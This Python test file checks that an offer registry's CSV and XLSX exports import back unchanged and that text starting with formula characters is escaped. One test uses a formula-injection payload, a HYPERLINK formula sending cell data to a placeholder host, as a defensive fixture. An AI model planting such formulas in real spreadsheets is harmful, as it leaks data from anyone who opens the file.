"""Export: CSV and XLSX round-trip through import unchanged, with hostile text formula-guarded."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import Engine

from tsbkart.domain.actors import Actor
from tsbkart.exchange.export import export_csv, write_csv_files, write_xlsx
from tsbkart.exchange.importer import import_files
from tsbkart.registry.snapshot import RegistrySnapshot

from .helpers import offer_row, seeded_registry, write_csv


def test_csv_export_has_the_template_header_and_sorted_rows(bundled_snapshot: RegistrySnapshot) -> None:
    lines = export_csv(bundled_snapshot, "offer").splitlines()
    assert lines[0].startswith("id,unit_id,service_type,target_groups,legal_basis")
    assert len(lines) == 1 + len(bundled_snapshot.offers)
    ids = [line.split(",")[0] for line in lines[1:]]
    assert ids == sorted(ids)


def test_exports_import_again_without_changes(engine: Engine, tmp_path: Path) -> None:
    registry = seeded_registry(engine)
    offers = [offer_row(1, languages="nb;en", waiting_weeks="2.5", waiting_as_of="2026-10-01"), offer_row(2)]
    assert import_files(
        registry,
        [write_csv(tmp_path / "in.csv", offers, "offer")],
        actor=Actor.cli("t"),
        reason="r",
        kind="offer",
    ).ok
    snapshot = registry.snapshot()
    csv_files = write_csv_files(snapshot, tmp_path / "csv")
    xlsx = write_xlsx(snapshot, tmp_path / "all.xlsx")
    for files in (csv_files, [xlsx]):
        report = import_files(registry, files, actor=Actor.cli("t"), reason="r")
        assert report.ok, report.problems
        assert report.revision is None  # identical records: nothing to write
        assert sum(report.rows.values()) == 1 + 1 + 2 + 2


def test_hostile_text_is_guarded_and_imports_back_unchanged(engine: Engine, tmp_path: Path) -> None:
    """Public text beginning with = + - @ is never a live formula in an export, and the export still imports
    again unchanged (before #9 the CSV and XLSX exports wrote such cells as formulas)."""
    registry = seeded_registry(engine)
    hostile = '=HYPERLINK("https://example.invalid/?d="&A1,"x")'
    offers = [offer_row(1, referral_note=hostile, description="@SUM(A1)"), offer_row(2, description="-1+2")]
    assert import_files(
        registry, [write_csv(tmp_path / "in.csv", offers, "offer")], actor=Actor.cli("t"), reason="r"
    ).ok
    snapshot = registry.snapshot()
    assert snapshot.offers["u1/offer-0001"].referral_note == hostile
    text = export_csv(snapshot, "offer")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + hostile in cells and "'@SUM(A1)" in cells and "'-1+2" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    xlsx = write_xlsx(snapshot, tmp_path / "all.xlsx")
    sheet = load_workbook(xlsx)["tilbud"]
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    for files in (write_csv_files(snapshot, tmp_path / "csv"), [xlsx]):
        report = import_files(registry, files, actor=Actor.cli("t"), reason="r")
        assert report.ok and report.revision is None, report.problems  # identical: nothing to write
